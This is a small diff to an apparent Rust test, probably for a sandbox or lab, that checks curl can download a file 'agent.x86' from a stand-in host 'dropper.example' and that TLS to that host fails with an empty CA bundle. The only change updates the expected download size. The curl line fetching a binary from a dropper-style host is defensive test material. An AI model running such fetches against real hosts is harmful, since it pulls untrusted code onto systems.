@@ -25,7 +25,7 @@ fn curl_fetches_a_script_and_a_program_and_takes_our_certificate() {
         let size = shell(
             "curl -sS --max-time 20 -A '' -o /dev/null -w '%{size_download}' http://dropper.example:8080/bins/agent.x86",
         );
-        assert_eq!(size, "153");
+        assert_eq!(size, "162");
         let refused = shell("curl -sS --max-time 20 --cacert /dev/null https://dropper.example/ 2>/dev/null; echo $?");
         assert_ne!(refused, "0\n");
     });
